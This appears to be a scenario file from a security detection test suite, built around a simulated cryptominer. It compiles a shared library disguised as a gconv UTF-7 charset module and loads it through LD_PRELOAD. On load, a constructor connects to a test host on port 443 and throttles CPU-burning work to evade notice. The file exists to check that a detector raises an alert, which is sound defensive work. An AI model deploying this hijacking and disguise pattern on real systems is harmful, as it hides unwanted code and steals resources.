# id: V04
# title: A careful miner lives as a library in a program of the image
# expect: alert
# severity: high
# kinds: library, process, network
# attck: T1574.006
# image: tools
# launch: app
# peers: tls:443
# timeout: 50
# within: 15

# Declared by hand, so that no header is needed; the library's functions are the program's own libc.
mkdir -p /usr/local/lib/gconv
cat >/tmp/m.c <<'END'
struct address { unsigned short family, port; unsigned char ip[4]; char rest[8]; };
struct host { char *name; char **aliases; int kind; int length; unsigned char **list; };
int socket(int, int, int);
int connect(int, const struct address *, unsigned);
struct host *gethostbyname(const char *);
long time(long *);
int usleep(unsigned);
int pthread_create(unsigned long *, const void *, void *(*)(void *), void *);
static void *work(void *none)
{
	volatile unsigned long hash = 1;
	long end = time(0) + 20;

	while (time(0) < end) {
		for (int i = 0; i < 4000000; i++)
			hash ^= hash << 13, hash ^= hash >> 7;
		usleep(6000);
	}
	return none;
}
__attribute__((constructor)) static void begin(void)
{
	struct host *pool = gethostbyname("tls");
	struct address to = { 2, 0xbb01, { 0 }, { 0 } };
	unsigned long thread;

	if (pool) {
		for (int i = 0; i < 4; i++)
			to.ip[i] = pool->list[0][i];
		connect(socket(2, 1, 0), &to, sizeof(to));
	}
	pthread_create(&thread, 0, work, 0);
}
END
gcc -O1 -shared -fPIC -nostdlib -o /usr/local/lib/gconv/UTF-7.so /tmp/m.c
LD_PRELOAD=/usr/local/lib/gconv/UTF-7.so sleep 22
